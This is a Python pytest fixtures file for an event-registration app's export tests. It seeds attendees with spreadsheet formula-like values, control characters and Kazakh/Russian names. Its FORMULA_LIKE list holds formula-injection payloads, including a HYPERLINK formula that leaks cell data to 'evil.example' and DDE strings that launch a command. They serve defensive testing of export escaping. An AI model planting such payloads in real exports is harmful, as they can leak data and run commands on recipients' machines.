"""Fixtures for the export tests: the demo event plus attendees whose data tries to break a
spreadsheet (formulas, error codes, control characters) or a careless encoder (Kazakh and
Russian letters), on each backend."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from db.engine import Database
from db.models import Category, Gender, Organisation, Person, Registration, Sector, Status

if TYPE_CHECKING:
    from tests.databases import Templates

# Strings a spreadsheet might take for a formula (or an error value) if written carelessly.
FORMULA_LIKE = [
    "=1+1",
    "+7 701 123 45 67",
    "-5",
    "@SUM(A1)",
    "\tx",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
    "=",
    "+",
    "-",
    "@",
    "'already quoted",
]

# Every control character a database will store (PostgreSQL refuses U+0000).
CONTROLS = "".join(chr(c) for c in range(1, 32))
KAZAKH_NAME = ("Әлия", "Сәрсенбаева", "Ғалымқызы")
KAZAKH_ORG = "Қазақстан Республикасы Жоғарғы Сотының жанындағы Сот төрелігі академиясы"


@dataclass(frozen=True)
class Hostile:
    """The demo event with extra attendees; ``formula_codes[i]`` holds ``FORMULA_LIKE[i]``."""

    database: Database
    event_id: int
    formula_codes: list[str]
    control_code: str
    kazakh_code: str


@pytest.fixture
def hostile(demo: tuple[Database, int]) -> Hostile:
    database, event_id = demo
    codes: list[str] = []
    with database.write() as s:
        for i, value in enumerate(FORMULA_LIKE):
            org = Organisation(name={"en": value, "ru": value}, sector=Sector.CIVIL_SOCIETY, country="KZ")
            person = Person(
                given_name=value, family_name=f"Formula{i:02d}", position={"en": value}, organisation=org,
                email=f"f{i}@example.org", phone=value if len(value) <= 40 else None, gender=Gender.FEMALE,
            )
            code = f"FX{i:04d}"
            s.add(Registration(event_id=event_id, person=person, badge_code=code, status=Status.CONFIRMED,
                               category=Category.PARTICIPANT, notes=value, dietary=value))
            codes.append(code)
        person = Person(given_name="Control", family_name=f"Chars{CONTROLS}", position={"en": f"pos{CONTROLS}end"},
                        gender=Gender.MALE)
        s.add(Registration(event_id=event_id, person=person, badge_code="CTRL01", notes=f"a{CONTROLS}b",
                           status=Status.REGISTERED))
        org = Organisation(name={"kk": KAZAKH_ORG, "ru": "Академия правосудия"}, sector=Sector.JUDICIARY, country="KZ")
        given, family, patronymic = KAZAKH_NAME
        person = Person(given_name=given, family_name=family, patronymic=patronymic, organisation=org,
                        position={"kk": "Аға оқытушы", "ru": "Старший преподаватель"}, gender=Gender.FEMALE)
        s.add(Registration(event_id=event_id, person=person, badge_code="KAZ001", status=Status.CONFIRMED,
                           interpretation="kk"))
    return Hostile(database, event_id, codes, "CTRL01", "KAZ001")


@dataclass(frozen=True)
class LongEvent:
    """A SQLite database holding only the long-name event of issue 11 (``tests/exports/long_data.py``)."""

    database: Database
    event_id: int
    path: Path


@pytest.fixture(scope="session")
def _long_template(tmp_path_factory: pytest.TempPathFactory, db_templates: Templates) -> tuple[Path, int]:
    """The long-name event, built once per session into a copy of the empty template."""
    from db.engine import open_database
    from tests.exports.long_data import create_long_event

    path = db_templates.copy_sqlite("empty", tmp_path_factory.mktemp("long-data") / "long.sqlite")
    database = open_database(path)
    try:
        event_id = create_long_event(database)
    finally:
        database.close()
    return path, event_id


@pytest.fixture
def long_event(_long_template: tuple[Path, int], tmp_path: Path) -> Iterator[LongEvent]:
    """A new SQLite database (a copy of the session's) holding the long-name event, opened."""
    from db.engine import open_database

    template, event_id = _long_template
    path = tmp_path / "long.sqlite"
    shutil.copyfile(template, path)
    database = open_database(path)
    try:
        yield LongEvent(database, event_id, path)
    finally:
        database.close()
